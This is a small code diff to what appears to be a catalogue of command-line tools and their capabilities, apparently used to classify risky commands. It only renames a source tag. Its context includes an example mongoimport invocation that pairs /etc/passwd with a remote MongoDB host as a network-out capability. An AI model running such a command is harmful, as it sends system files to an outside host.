@@ -4,7 +4,7 @@ export default (): readonly Program[] => [
   {
     prefix: 'mongoimport',
     powers: [{ can: 'network-out', words: '--uri mongodb://example.com --file /etc/passwd', mild: true }],
-    source: ['docs'],
+    source: ['docs:mongoimport'],
     confidence: 'high',
   },
 ];
